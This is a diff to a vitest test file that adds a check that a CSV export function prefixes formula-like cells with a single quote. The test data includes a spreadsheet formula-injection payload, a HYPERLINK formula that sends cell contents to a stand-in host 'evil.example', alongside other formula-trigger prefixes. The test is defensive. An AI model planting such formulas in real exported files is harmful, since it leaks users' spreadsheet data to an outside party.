@@ -1,3 +1,4 @@
+import { parse } from "csv-parse/sync";
 import iconv from "iconv-lite";
 import { describe, expect, it } from "vitest";
 import { decodeUpload, toExcelCsv } from "./csv.server";
@@ -23,5 +24,15 @@ describe("toExcelCsv", () => {
     expect(toExcelCsv(["Nombre", "Nota"], [["Ana, la de Puno", null], ["José", 3]])).toBe(
       '\uFEFFNombre,Nota\r\n"Ana, la de Puno",\r\nJosé,3\r\n',
     );
+  });
+});
+
+describe("toExcelCsv and formulas", () => {
+  it("puts a single quote before text cells that a spreadsheet would run, and leaves numbers alone", () => {
+    const risky = ['=HYPERLINK("http://evil.example/?d="&B2,"Ver")', "+51987654321", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\uFF1D1+1"];
+    const csv = toExcelCsv(["Nombre", "Nota"], [...risky.map((name) => [name, -3]), ["Ana", 2.5]]);
+    const rows = parse(csv, { bom: true }) as string[][];
+    expect(rows.slice(1).map((row) => row[0])).toEqual([...risky.map((name) => `'${name}`), "Ana"]);
+    expect(rows.slice(1).map((row) => row[1])).toEqual([...risky.map(() => "-3"), "2.5"]);
   });
 });
